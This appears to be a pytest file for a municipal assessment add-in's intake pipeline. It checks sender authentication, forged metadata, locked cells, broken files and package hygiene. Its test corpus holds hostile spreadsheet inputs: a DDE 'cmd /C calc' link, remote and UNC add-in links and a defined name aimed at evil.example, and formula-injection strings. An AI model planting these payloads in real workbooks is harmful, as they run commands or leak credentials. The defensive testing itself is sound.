"""Intake as an attacker and a faulty machine meet it (issue 12): who sent what, keyed
template ids, locked values, arrival order, files that fail alone, package hygiene, text
that stays text. Every corpus file is built here from real formats."""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import re
import zipfile
from email.message import EmailMessage

import openpyxl
import pytest

from addin.intake.extract import Update
from addin.intake.master import apply_updates
from addin.intake.run import ACCEPTED, HELD, REJECTED, SUPERSEDED, WARNING, run_intake
from addin.intake.store import Store
from addin.office.settings import SETTINGS_FILE
from fill import APPENDIX1_FULL, eml
from test_intake import _template_parts, _zip, by_name, filled, master_value, run, templates, work  # noqa: F401

UTC = dt.UTC


def settings(work, text: str) -> None:
    (work / SETTINGS_FILE).write_text(text, encoding="utf-8")


def mailboxes(work, **by_unit: str) -> None:
    apply_updates(work / "master.xlsx", [Update("部门" if c.startswith("B") else "区市", "单位编码", c, {"报送邮箱": v})
                                         for c, v in by_unit.items()])


def master_bytes(work) -> bytes:
    return (work / "master.xlsx").read_bytes()


# --- who may send what ---------------------------------------------------------------------


def test_run_intake__a_stranger_mailbox_is_held_for_the_unit(work, templates, municipal, audit):
    mailboxes(work, B001="b001@fgw.example.gov.cn; fgw.example.gov.cn")
    f = filled(templates, work)
    eml(work / "inbox" / "stranger.eml", [("附表1.xlsx", f.read_bytes())], sender="evil@other.example.cn")
    before = master_bytes(work)
    result = run(work, municipal, audit)
    o = by_name(result, "附表1.xlsx")
    assert o.status == HELD and o.problems[0].code == "sender_mismatch"
    assert "evil@other.example.cn" in o.reasons[0] and "暂缓" in o.reasons[0]
    assert master_bytes(work) == before  # not applied
    store = Store(work / "master.kaohe.sqlite")
    row = store.submission(o.record_id)
    store.close()
    assert (row["status"], row["is_current"], row["mailer"]) == ("held", 0, "evil@other.example.cn")
    assert not result.rejected  # held is not a rejection


def test_run_intake__the_units_own_address_or_domain_is_accepted(work, templates, municipal, audit):
    mailboxes(work, B001="b001@fgw.example.gov.cn; fgw2.example.gov.cn")
    f = filled(templates, work)
    g = filled(templates, work, values={**APPENDIX1_FULL, "KH_IN_附表1_1_1_missed_meetings": 0}, name="g.xlsx")
    eml(work / "inbox" / "a.eml", [("a.xlsx", f.read_bytes())], sender="办公室 <B001@FGW.example.gov.cn>",
        date=dt.datetime(2027, 1, 10, tzinfo=UTC))
    eml(work / "inbox" / "b.eml", [("b.xlsx", g.read_bytes())], sender="anyone@fgw2.example.gov.cn",
        date=dt.datetime(2027, 1, 11, tzinfo=UTC))
    result = run(work, municipal, audit)
    assert [by_name(result, n).status for n in ("a.xlsx", "b.xlsx")] == [SUPERSEDED, ACCEPTED]
    assert master_value(work, "部门", "B001", "党风廉政建设") == 9.7


def test_run_intake__the_scoring_body_may_send_every_units_table(work, templates, municipal, audit):
    mailboxes(work, B001="b001@fgw.example.gov.cn")
    settings(work, "报送:\n  评分单位邮箱:\n    市纪委(监察局): [jw@jw.example.gov.cn]\n")
    f = filled(templates, work)
    eml(work / "inbox" / "jw.eml", [("附表1.xlsx", f.read_bytes())], sender="jw@jw.example.gov.cn")
    assert run(work, municipal, audit).outcomes[0].status == ACCEPTED


def test_run_intake__office_only_register_from_outside_is_held(work, templates, municipal, audit):
    settings(work, "报送:\n  考核办邮箱: [khb@example.gov.cn]\n")
    values = {"KH_IN_bonus_unit": ["B001"], "KH_IN_bonus_project": ["一网通办"], "KH_IN_bonus_recognizer": ["党委政府"],
              "KH_IN_bonus_level": ["省"]}
    reg = filled(templates, work, unit="KHB", kind="register", values=values, name="reg.xlsx")
    own = filled(templates, work, unit="KHB", kind="register", values={**values, "KH_IN_bonus_level": ["国家"]},
                 name="own.xlsx")
    eml(work / "inbox" / "out.eml", [("out.xlsx", reg.read_bytes())], sender="b001@example.gov.cn")
    eml(work / "inbox" / "in.eml", [("in.xlsx", own.read_bytes())], sender="khb@example.gov.cn")
    result = run(work, municipal, audit)
    assert (by_name(result, "out.xlsx").status, by_name(result, "out.xlsx").problems[0].code) == \
        (HELD, "sender_not_office")
    assert by_name(result, "in.xlsx").status == ACCEPTED
    ws = openpyxl.load_workbook(work / "master.xlsx")["加分登记"]
    assert [r[3] for r in ws.iter_rows(min_row=2, values_only=True) if r[0] == "B001"] == ["国家"]


def test_run_intake__a_sector_groups_register_is_applied_for_its_own_units(work, templates, municipal, audit):
    """Issue 24 (smaller defect): the 加分登记 is scored by each 口考核组 (seed: 由各口考核组
    进行评分，报市分管领导审定). From the group's own address it is applied — for the group's
    units only: B001 and B002 are 综合口's; Q01 (a district) is no unit of it."""
    settings(work, "报送:\n  考核办邮箱: [khb@example.gov.cn]\n  分口邮箱:\n    综合口: [zhk@example.gov.cn]\n")
    values = {"KH_IN_bonus_unit": ["B001"], "KH_IN_bonus_project": ["一网通办"], "KH_IN_bonus_recognizer": ["党委政府"],
              "KH_IN_bonus_level": ["省"]}
    own = filled(templates, work, unit="KHB", kind="register", values=values, name="g.xlsx")
    other = filled(templates, work, unit="KHB", kind="register",
                   values={**values, "KH_IN_bonus_unit": ["Q01"], "KH_IN_bonus_level": ["国家"]}, name="q.xlsx")
    eml(work / "inbox" / "g.eml", [("g.xlsx", own.read_bytes())], sender="zhk@example.gov.cn")
    eml(work / "inbox" / "q.eml", [("q.xlsx", other.read_bytes())], sender="zhk@example.gov.cn")
    result = run(work, municipal, audit)
    assert by_name(result, "g.xlsx").status == ACCEPTED, by_name(result, "g.xlsx").reasons
    ws = openpyxl.load_workbook(work / "master.xlsx")["加分登记"]
    assert [(r[0], r[3]) for r in ws.iter_rows(min_row=2, values_only=True) if r[0]] == [("B001", "省")]
    q = by_name(result, "q.xlsx")
    assert (q.status, q.problems[0].code, q.problems[0].record) == (REJECTED, "unit_outside_group", "Q01")
    assert "Q01 不是综合口的单位" in q.reasons[0]


@pytest.mark.parametrize("mechanism", ["spf", "dkim", "dmarc"])
def test_run_intake__authentication_failure_stamped_by_the_office_server_holds(work, templates, municipal, audit,
                                                                               mechanism):
    mailboxes(work, B001="b001@example.gov.cn")
    settings(work, "报送:\n  认证服务器: [mx.khb.example.gov.cn]\n")
    f = filled(templates, work)
    eml(work / "inbox" / "a.eml", [("a.xlsx", f.read_bytes())], sender="b001@example.gov.cn",
        auth=f"{mechanism}=fail smtp.mailfrom=example.gov.cn")
    o = run(work, municipal, audit).outcomes[0]
    assert o.status == HELD and o.problems[0].code == "sender_unauthenticated" and f"{mechanism}=fail" in o.reasons[0]


def test_run_intake__a_forged_authentication_header_below_the_servers_is_ignored(work, templates, municipal, audit):
    mailboxes(work, B001="b001@example.gov.cn")
    settings(work, "报送:\n  认证服务器: [mx.khb.example.gov.cn]\n")
    f = filled(templates, work)
    path = eml(work / "inbox" / "a.eml", [("a.xlsx", f.read_bytes())], sender="b001@example.gov.cn",
               auth="spf=pass dkim=pass dmarc=pass")
    raw = path.read_bytes().replace(b"From:", b"Authentication-Results: evil.example; dmarc=fail\r\nFrom:", 1)
    path.write_bytes(raw)
    assert run(work, municipal, audit).outcomes[0].status == ACCEPTED


def test_intake_command__a_bad_settings_file_names_the_file_path_and_reason(work, templates):
    from typer.testing import CliRunner

    from addin.cli import app

    settings(work, "报送:\n  考核办邮箲: [khb@example.gov.cn]\n")  # a typo in the key
    out = CliRunner().invoke(app, ["intake", str(work / "inbox"), "--master", str(work / "master.xlsx")])
    assert out.exit_code == 2
    assert "设置文件有误" in out.output and "设置.yaml" in out.output
    assert "报送.考核办邮箲" in out.output and "不允许的字段" in out.output


def test_run_intake__no_addresses_on_record_accepts_and_says_so_once(work, templates, municipal, audit):
    f = filled(templates, work)
    eml(work / "inbox" / "a.eml", [("a.xlsx", f.read_bytes())], sender="anyone@example.cn")
    result = run(work, municipal, audit)
    assert result.outcomes[0].status == ACCEPTED
    assert [p.code for p in result.notices] == ["sender_unchecked"]
    assert "B001 市发展改革委" in result.notices[0].message


def test_intake_release__applies_a_held_submission_and_records_who_and_when(work, templates, municipal, audit):
    from typer.testing import CliRunner

    from addin.cli import app

    mailboxes(work, B001="b001@example.gov.cn")
    f = filled(templates, work)
    eml(work / "inbox" / "a.eml", [("a.xlsx", f.read_bytes())], sender="b001.personal@qq.example.com")
    held = run(work, municipal, audit).outcomes[0]
    assert held.status == HELD and master_value(work, "部门", "B001", "党风廉政建设") is None
    out = CliRunner().invoke(app, ["intake", "--release", str(held.record_id), "--by", "张科长", "--master",
                                   str(work / "master.xlsx")])
    assert out.exit_code == 0, out.output
    assert master_value(work, "部门", "B001", "党风廉政建设") == 9.2
    store = Store(work / "master.kaohe.sqlite")
    row = store.submission(held.record_id)
    store.close()
    assert (row["status"], row["is_current"], row["released_by"]) == ("accepted", 1, "张科长")
    assert dt.datetime.fromisoformat(row["released_at"]).date() == dt.date.today()
    again = CliRunner().invoke(app, ["intake", "--release", str(held.record_id), "--master", str(work / "master.xlsx")])
    assert again.exit_code == 2 and "只能放行" in again.output


# --- keyed template identity ---------------------------------------------------------------


def _set_meta(parts: dict[str, bytes], **values: str) -> dict[str, bytes]:
    """Edit the metadata sheet's values in the XML (as a hand edit in any client would)."""
    wb = openpyxl.load_workbook(io.BytesIO(_zip(parts)))
    meta = wb["_kaohe"]
    for row in meta.iter_rows(min_row=2):
        if row[0].value in values:
            row[1].value = values[row[0].value]
    buf = io.BytesIO()
    wb.save(buf)
    return _template_parts_bytes(buf.getvalue())


def _template_parts_bytes(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n) for n in z.namelist()}


def test_run_intake__metadata_moved_to_another_unit_with_a_recomputed_public_id_is_forged(
        work, templates, municipal, audit):
    parts = _template_parts(filled(templates, work))
    meta = openpyxl.load_workbook(io.BytesIO(_zip(parts)))["_kaohe"]
    values = {r[0]: r[1] for r in meta.iter_rows(min_row=2, values_only=True)}
    # what round 1's unkeyed id was: sha256 of public fields
    unkeyed = hashlib.sha256(f"{values['template_kind']}|{values['scheme_hash']}|2026|B002".encode()).hexdigest()[:16]
    forged = _set_meta(parts, unit_code="B002", unit_name="市财政局", template_id=unkeyed)
    (work / "inbox" / "forged.xlsx").write_bytes(_zip(forged))
    before = master_bytes(work)
    o = run(work, municipal, audit).outcomes[0]
    assert (o.status, o.problems[0].code, o.problems[0].sheet) == (REJECTED, "metadata_forged", "_kaohe")
    assert master_bytes(work) == before


def test_build_templates__the_office_secret_never_goes_into_a_template(templates):
    from fill import TEST_SECRET

    for path in templates.values():
        with zipfile.ZipFile(path) as z:
            blob = b"".join(z.read(n) for n in z.namelist())
        assert TEST_SECRET not in blob and TEST_SECRET.hex().encode() not in blob, path.name


# --- the roster decides lists, and locked values are structure ------------------------------


def test_run_intake__a_forged_group_sheet_cannot_change_the_unit_list(work, templates, municipal, audit):
    """A 综合口 sheet that lists B003 (not of the group) and a made-up B999 is refused."""
    parts = _template_parts(templates[("G-综合口", "scoring-sheet")])
    workbook = parts["xl/workbook.xml"].decode()
    extra = ('<definedName name="KH_IN_B999_1_score">\'业务目标评分\'!$F$30</definedName>'
             '<definedName name="KH_IN_B003_1_score">\'业务目标评分\'!$F$31</definedName>')
    parts["xl/workbook.xml"] = workbook.replace("</definedNames>", extra + "</definedNames>").encode()
    (work / "inbox" / "forged_group.xlsx").write_bytes(_zip(parts))
    before = master_bytes(work)
    o = run(work, municipal, audit).outcomes[0]
    assert o.status == REJECTED and o.problems[0].code == "unit_list_changed"
    assert "B003" in o.reasons[0] and "B999" in o.reasons[0]
    assert master_bytes(work) == before


def _roster_with_people(work, templates, people):
    """A staff-roster template built for B001 with these people, and the master listing them."""
    from addin.office.roster import Roster, RosterPerson, RosterUnit
    from fill import TEST_SECRET
    from workbook_templates.build import build_templates

    roster = Roster([RosterUnit("B001", "市发展改革委", "部门", "综合口"), RosterUnit("B002", "市财政局", "部门", "综合口")],
                    [RosterPerson(*p) for p in people])
    built = build_templates(work / "tpl", municipal=None or __import__("addin.scheme", fromlist=["x"]).load_builtin(
        "municipal"), audit=__import__("addin.scheme", fromlist=["x"]).load_builtin("audit"), roster=roster, year=2026,
        kinds=["staff-roster"], unit="B001", secret=TEST_SECRET)
    apply_updates(work / "master.xlsx", [Update("人员", "人员编码", p[0], {"姓名": p[1], "单位编码": p[2], "层级": p[3],
                                                                        "主要负责人": "是" if p[4] else "否"})
                                         for p in people])
    return built[0].path


PEOPLE = [("P1", "张三", "B001", "县级", True), ("P2", "李四", "B001", "科级及以下", False),
          ("Q9", "王五", "B002", "县级", True)]


def _staff_values(wb, code_cells: dict[str, str]):
    ws = wb["考核名册"]
    for coord, value in code_cells.items():
        ws[coord] = value
    for r in (8, 9):
        for col, v in zip("EFGHJK", [20, 10, 5, 5, 85, 9]):
            ws[f"{col}{r}"] = v
    return wb


def test_run_intake__a_locked_person_code_changed_to_another_units_head_is_refused(work, templates, municipal,
                                                                                  audit):
    path = _roster_with_people(work, templates, PEOPLE)
    wb = _staff_values(openpyxl.load_workbook(path), {"A9": "Q9"})
    wb.save(work / "inbox" / "swap.xlsx")
    before = master_bytes(work)
    o = run(work, municipal, audit).outcomes[0]
    assert (o.status, o.problems[0].code, o.problems[0].cell) == (REJECTED, "person_other_unit", "A9")
    assert master_bytes(work) == before


@pytest.mark.parametrize(("cell", "value"), [("C8", "科级及以下"), ("D9", "是"), ("B8", "张三丰")])
def test_run_intake__a_listed_persons_level_head_or_name_is_locked(work, templates, municipal, audit, cell, value):
    """Issue 21 finding 4: 层级 (which quota pool) and 主要负责人 (优秀 outside the quota
    with a 先进集体) are the office's: locked in the listed roster, refused when changed."""
    path = _roster_with_people(work, templates, PEOPLE)
    wb = openpyxl.load_workbook(path)
    assert wb["考核名册"][cell].protection.locked  # as issued: the roster's value, locked
    _staff_values(wb, {cell: value}).save(work / "inbox" / "relevel.xlsx")
    before = master_bytes(work)
    o = run(work, municipal, audit).outcomes[0]
    assert (o.status, o.problems[0].code, o.problems[0].cell) == (REJECTED, "locked_value_changed", cell)
    assert master_bytes(work) == before


def test_run_intake__the_open_roster_form_built_for_a_unit_with_people_is_forged(work, templates, municipal, audit,
                                                                                 tmp_path):
    """Issue 21 finding 4: kaohe's open form (nobody listed) carried the same template id
    as the listed form, so a unit could build it and type its people's names. The open
    form is keyed apart: an open form bearing the listed form's id is refused."""
    path = _roster_with_people(work, templates, PEOPLE)
    listed_id = openpyxl.load_workbook(path)["_kaohe"]
    listed_id = next(r[1].value for r in listed_id.iter_rows(min_row=2) if r[0].value == "template_id")
    open_form = templates[("B001", "staff-roster")]  # built for a roster with nobody in B001
    parts = _set_meta(_template_parts(open_form), template_id=listed_id)
    wb = openpyxl.load_workbook(io.BytesIO(_zip(parts)))
    ws = wb["考核名册"]
    for col, v in zip("ABCDEFGHJK", ["P1", "张三丰", "科级及以下", "否", 20, 10, 5, 5, 85, 9]):
        ws[f"{col}8"] = v
    wb.save(work / "inbox" / "open.xlsx")
    o = run(work, municipal, audit).outcomes[0]
    assert (o.status, o.problems[0].code) == (REJECTED, "metadata_forged")


def test_run_intake__an_unknown_person_is_refused_and_a_stray_space_is_the_same_person(work, templates, municipal,
                                                                                       audit):
    path = _roster_with_people(work, templates, PEOPLE)
    _staff_values(openpyxl.load_workbook(path), {"A9": "P99"}).save(work / "inbox" / "unknown.xlsx")
    _staff_values(openpyxl.load_workbook(path), {"A8": "P1 ", "B9": "李\u3000四"}).save(work / "inbox" / "space.xlsx")
    result = run(work, municipal, audit)
    unknown, space = by_name(result, "unknown.xlsx"), by_name(result, "space.xlsx")
    assert (unknown.status, unknown.problems[0].code, unknown.problems[0].cell) == (REJECTED, "unknown_person", "A9")
    assert space.status == ACCEPTED, space.reasons
    ws = openpyxl.load_workbook(work / "master.xlsx")["人员"]
    codes = [r[0] for r in ws.iter_rows(min_row=2, values_only=True) if r[0]]
    assert codes.count("P1") == 1 and "P1 " not in codes and "P99" not in codes


def test_run_intake__a_changed_locked_standard_or_points_is_refused_at_its_cell(work, templates, municipal, audit):
    wb = openpyxl.load_workbook(filled(templates, work))
    ws = wb["附表1"]
    points = next(c for row in ws.iter_rows(min_row=8, max_row=8) for c in row if c.value == 2)
    points.value = 5  # 1.1 worth 5 points instead of 2
    wb.save(work / "inbox" / "points.xlsx")
    o = run(work, municipal, audit).outcomes[0]
    assert (o.status, o.problems[0].code, o.problems[0].cell) == (REJECTED, "locked_value_changed", points.coordinate)
    assert "文件中为“5”，应为“2”" in o.reasons[0]


# --- order by arrival, not by claim ------------------------------------------------------


def test_run_intake__a_date_in_2099_does_not_pin_a_units_data(work, templates, municipal, audit):
    first = filled(templates, work, name="v1.xlsx")
    fix = filled(templates, work, values={**APPENDIX1_FULL, "KH_IN_附表1_1_1_missed_meetings": 0}, name="v2.xlsx")
    eml(work / "inbox" / "a.eml", [("v1.xlsx", first.read_bytes())], date=dt.datetime(2099, 1, 1, tzinfo=UTC),
        received=dt.datetime(2027, 1, 10, 9, tzinfo=UTC))
    run(work, municipal, audit)
    eml(work / "inbox" / "b.eml", [("v2.xlsx", fix.read_bytes())], date=dt.datetime(2027, 1, 12, tzinfo=UTC),
        received=dt.datetime(2027, 1, 12, 9, tzinfo=UTC))
    result = run(work, municipal, audit)
    assert by_name(result, "v2.xlsx").status == ACCEPTED
    assert master_value(work, "部门", "B001", "党风廉政建设") == 9.7


def test_run_intake__a_date_far_from_the_arrival_is_a_warning(work, templates, municipal, audit):
    f = filled(templates, work)
    eml(work / "inbox" / "a.eml", [("a.xlsx", f.read_bytes())], date=dt.datetime(2099, 1, 1, tzinfo=UTC),
        received=dt.datetime(2027, 1, 10, 9, tzinfo=UTC))
    g = filled(templates, work, unit="B002", name="g.xlsx")
    eml(work / "inbox" / "b.eml", [("b.xlsx", g.read_bytes())], date=dt.datetime(2026, 10, 1, tzinfo=UTC),
        received=dt.datetime(2027, 1, 10, 9, tzinfo=UTC))
    result = run(work, municipal, audit)
    assert [p.code for p in by_name(result, "a.xlsx").problems] == ["date_in_future"]
    assert [p.code for p in by_name(result, "b.xlsx").problems] == ["date_far"]
    assert {by_name(result, n).status for n in ("a.xlsx", "b.xlsx")} == {WARNING}


def test_run_intake__a_rejected_file_sent_again_is_processed_again(work, templates, municipal, audit, tmp_path):
    from addin.office.roster import Roster, RosterUnit
    from fill import TEST_SECRET
    from workbook_templates.build import build_templates

    other = Roster([RosterUnit("B077", "市新设局", "部门", "综合口")])
    built = build_templates(tmp_path / "new", municipal=municipal, audit=audit, roster=other, year=2026,
                            kinds=["appendix"], secret=TEST_SECRET)
    data = next(b.path for b in built if b.identity.template_kind == "appendix:附表3").read_bytes()
    from fill import fill as fill_file

    path = tmp_path / "new.xlsx"
    path.write_bytes(data)
    values = {"KH_IN_附表3_3_3_choice": "市级", "KH_IN_附表3_3_4_actual": 0.8, "KH_IN_附表3_3_4_target": 1}
    filled_bytes = fill_file(path, values, tmp_path / "f.xlsx").read_bytes()
    (work / "inbox" / "new.xlsx").write_bytes(filled_bytes)
    first = run(work, municipal, audit).outcomes[0]
    assert (first.status, first.problems[0].code) == (REJECTED, "unknown_unit")
    apply_updates(work / "master.xlsx", [Update("部门", "单位编码", "B077", {"单位名称": "市新设局", "分口": "综合口"})])
    assert run(work, municipal, audit).outcomes == []  # a rerun does not report it again (issue 23)
    second = run_intake(work / "inbox", work / "master.xlsx", municipal=municipal, audit=audit, year=2026,
                        recheck=True).outcomes[0]  # checked again on purpose, after the office added the unit
    # 3.1 and 3.2 full (1 + 1), 3.3 市级 0.8, 3.4 0.8 ÷ 1 = 0.8, 3.5 full 1 → 4.6
    assert second.status == ACCEPTED and master_value(work, "部门", "B077", "精神文明建设") == 4.6


# --- one file fails alone -----------------------------------------------------------------


def test_run_intake__a_damaged_msg_fails_alone(work, templates, municipal, audit):
    from fill import outlook_msg

    f = filled(templates, work)
    good = outlook_msg(work / "inbox" / "good.msg", [("a.xlsx", f.read_bytes())], subject="s", sender="x@y.cn")
    data = bytearray(good.read_bytes())
    # point the first directory sector's start past the end of the file (an OLE sector index out of range)
    struct_at = 0x30
    data[struct_at:struct_at + 4] = (0x7FFFFFF0).to_bytes(4, "little")
    (work / "inbox" / "damaged.msg").write_bytes(bytes(data))
    g = filled(templates, work, unit="B002", name="b2.xlsx")
    (work / "inbox" / "b2.xlsx").write_bytes(g.read_bytes())
    result = run(work, municipal, audit)
    assert [p.code for p in result.inbox_problems if p.file == "damaged.msg"] == ["broken_msg"]
    assert by_name(result, "b2.xlsx").status == ACCEPTED  # the batch went on


def test_run_intake__an_absurd_count_is_out_of_range_not_a_crash(work, templates, municipal, audit):
    huge = filled(templates, work, values={**APPENDIX1_FULL, "KH_IN_附表1_1_3_eight_rules": 1e26}, name="huge.xlsx")
    (work / "inbox" / "huge.xlsx").write_bytes(huge.read_bytes())
    g = filled(templates, work, unit="B002", name="b2.xlsx")
    (work / "inbox" / "b2.xlsx").write_bytes(g.read_bytes())
    result = run(work, municipal, audit)
    o = by_name(result, "huge.xlsx")
    assert (o.status, o.problems[0].code, o.problems[0].cell) == (REJECTED, "out_of_range", "F13")
    assert by_name(result, "b2.xlsx").status == ACCEPTED


def test_run_intake__nested_forwards_are_walked_once_and_bounded(work, templates, municipal, audit):
    f = filled(templates, work)
    inner = EmailMessage()
    inner["From"], inner["Subject"] = "b001@example.gov.cn", "附表1"
    inner.set_content("见附件")
    inner.add_attachment(f.read_bytes(), maintype="application", subtype="octet-stream", filename="a.xlsx")
    for level in range(10):
        outer = EmailMessage()
        outer["From"], outer["Subject"] = f"fwd{level}@example.gov.cn", f"Fwd {level}"
        outer.set_content("转发")
        outer.add_attachment(f"note {level}".encode(), maintype="text", subtype="plain", filename=f"n{level}.txt")
        outer.add_attachment(inner)
        inner = outer
    (work / "inbox" / "deep.eml").write_bytes(inner.as_bytes())
    result = run(work, municipal, audit)
    names = sorted(o.envelope.file_name for o in result.outcomes)
    # depth limit 5: the outer 6 messages' notes are read once each, the workbook 5 levels below is not reached
    assert names == [f"n{k}.txt" for k in range(4, 10)]
    assert [p.code for p in result.inbox_problems] == ["too_deep"]


# --- package hygiene -----------------------------------------------------------------------


def _dup_zip(parts: dict[str, bytes], name: str, other: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for n, d in parts.items():
            z.writestr(n, d)
        with pytest.warns(UserWarning):
            z.writestr(name, other)  # zipfile warns: a second member of the same name
    return buf.getvalue()


def _with_link(parts, target: str, body: bytes = b"<externalLink/>") -> bytes:
    return _zip({**parts, "xl/externalLinks/externalLink1.xml": body,
                 "xl/externalLinks/_rels/externalLink1.xml.rels":
                     f'<Relationships><Relationship Id="rId1" Target="{target}" TargetMode="External"/>'
                     f'</Relationships>'.encode()})


def test_run_intake__package_ambiguities_and_active_content_are_refused(work, templates, municipal, audit):
    parts = _template_parts(filled(templates, work))
    sheet = parts["xl/worksheets/sheet1.xml"]
    named = parts["xl/workbook.xml"].decode().replace(
        "</definedNames>", "<definedName name=\"Leak\">'\\\\evil.example\\share\\[x.xlsx]Sheet1'!$A$1</definedName>"
                           "</definedNames>").encode()
    corpus = {
        "dup.xlsx": _dup_zip(parts, "xl/worksheets/sheet1.xml", sheet.replace(b"<v>1</v>", b"<v>0</v>")),
        "ole.xlsx": _zip({**parts, "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 60}),
        "activex.xlsx": _zip({**parts, "xl/activeX/activeX1.xml": b"<ax:ocx/>"}),
        "connection.xlsx": _zip({**parts, "xl/connections.xml": b'<connections><connection id="1" '
                                                                b'refreshOnLoad="1"/></connections>'}),
        "remote_addin.xlsx": _with_link(parts, "https://evil.example/kaohe.xlam"),
        "unc_addin.xlsx": _with_link(parts, "\\\\evil.example\\share\\kaohe.xlam"),
        "dde.xlsx": _zip({**_template_parts_bytes(_with_link(parts, "file:///C:/x/kaohe.xlam")),
                          "xl/externalLinks/externalLink2.xml": b'<externalLink><ddeLink ddeService="cmd" '
                                                                b'ddeTopic="/C calc"/></externalLink>'}),
        "named.xlsx": _zip({**parts, "xl/workbook.xml": named}),
    }
    for name, data in corpus.items():
        (work / "inbox" / name).write_bytes(data)
    before = master_bytes(work)
    result = run(work, municipal, audit)
    codes = {o.envelope.file_name: (o.status, o.problems[0].code) for o in result.outcomes}
    assert codes == {"dup.xlsx": (REJECTED, "duplicate_parts"), "ole.xlsx": (REJECTED, "embedded_object"),
                     "activex.xlsx": (REJECTED, "activex"), "connection.xlsx": (REJECTED, "data_connection"),
                     "remote_addin.xlsx": (REJECTED, "external_links"), "unc_addin.xlsx": (REJECTED, "external_links"),
                     "dde.xlsx": (REJECTED, "dde"), "named.xlsx": (REJECTED, "external_name")}
    assert master_bytes(work) == before


# --- text stays text in what we write --------------------------------------------------------

EVIL = ["=HYPERLINK(\"http://evil.example\",\"点我\")", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3"]


def test_apply_updates__text_that_looks_like_a_formula_stays_text_in_the_master(work):
    apply_updates(work / "master.xlsx", [Update("加分登记", "单位编码", "B001", {"创新项目": v}) for v in EVIL[:1]] +
                  [Update("部门", "单位编码", "B002", {"一票否决": EVIL[1]})])
    with zipfile.ZipFile(work / "master.xlsx") as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "HYPERLINK" in xml and "cmd|" in xml
    ws = openpyxl.load_workbook(work / "master.xlsx")["部门"]
    cell = next(c for row in ws.iter_rows() for c in row if c.value == EVIL[1])
    assert cell.data_type == "s"


def test_excel_text__an_apostrophe_keeps_formulas_numbers_and_dates_as_text():
    from addin.workbook.text import csv_text, excel_text

    assert [excel_text(v) for v in EVIL] == ["'" + v for v in EVIL]
    assert excel_text("2026-12-14") == "'2026-12-14" and excel_text("00123") == "'00123"
    assert excel_text("市发展改革委") == "市发展改革委" and excel_text(92.5) == 92.5
    assert csv_text("=1+1") == "'=1+1" and csv_text("正常") == "正常"


def test_xlwings_host__writes_text_that_excel_cannot_parse():
    from addin.hosts import XlwingsHost
    from addin.results import ResultTable

    class Range:
        def __init__(self, log):
            self.log = log
            self.color = None

        @property
        def value(self):
            return None

        @value.setter
        def value(self, v):
            self.log.append(v)

    class Sheet:
        def __init__(self, name, log):
            self.name, self.log = name, log
            self.tables = type("T", (), {"add": lambda *a, **k: None})()

        def clear(self):
            pass

        def range(self, *a):
            return Range(self.log)

        def autofit(self, *a):
            pass

    class Sheets(list):
        def __getitem__(self, key):
            return next(s for s in self if s.name == key) if isinstance(key, str) else list.__getitem__(self, key)

        def add(self, name, after=None):
            s = Sheet(name, log)
            self.append(s)
            return s

    log: list = []
    book = type("B", (), {"name": "m.xlsx", "fullname": "", "sheets": Sheets([Sheet("部门排名", log)])})()
    host = XlwingsHost(book)
    host.write_tables([ResultTable("部门排名", ["单位编码", "单位名称", "综合得分"], [["B001", EVIL[1], 92.5]])])
    rows = log[0]
    assert rows[1] == ["B001", "'" + EVIL[1], 92.5]


def test_outputs__a_name_typed_as_a_formula_is_text_in_every_file_we_write(master, municipal, tmp_path):  # noqa: F811
    """A unit and a person whose names are formulas: the result sheets, the circular, the
    export, the notices, the publicity lists and the diff all hold them as text."""
    from addin.archive.documents import circular, publicity_lists
    from addin.archive.notices import notices
    from addin.archive.export import export_archive
    from addin.archive.versions import diff, publish, write_diff
    from addin.hosts import FileHost
    from addin.macro import recompute

    apply_updates(master, [Update("部门", "单位编码", "B02", {"单位名称": EVIL[1]}),
                           Update("人员", "人员编码", "P01", {"姓名": EVIL[0]})])
    assert recompute(FileHost(master), municipal).ok
    publish(master, 2026)
    apply_updates(master, [Update("部门", "单位编码", "B02", {"通报批评次数": 1})])
    assert recompute(FileHost(master), municipal).ok
    publish(master, 2026)
    out = tmp_path / "out"
    files = [master, circular(master, 2026, municipal, out / "通报.xlsx"),
             export_archive(master, out / "档案.xlsx"),
             write_diff(diff(master, 2026, 1, 2), out / "diff.xlsx", 2026, 1, 2),
             *notices(master, 2026, dt.date(2026, 12, 14), municipal, out / "notices").paths,
             *publicity_lists(master, 2026, dt.date(2026, 12, 21), 7, out / "publicity")]
    seen = {EVIL[0]: 0, EVIL[1]: 0}
    for path in files:
        with zipfile.ZipFile(path) as z:
            for name in z.namelist():
                if not name.startswith("xl/worksheets/"):
                    continue
                xml = z.read(name).decode()
                formulas = " ".join(re.findall(r"<f[^>]*>(.*?)</f>", xml))
                assert "cmd|" not in formulas and "HYPERLINK" not in formulas, (path.name, name)
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    if c.value in seen:
                        seen[c.value] += 1
                        assert c.data_type == "s", (path.name, ws.title, c.coordinate)
    assert all(seen.values()), seen  # both names were written somewhere, as text


from test_macro import master  # noqa: E402,F401 (fixture)
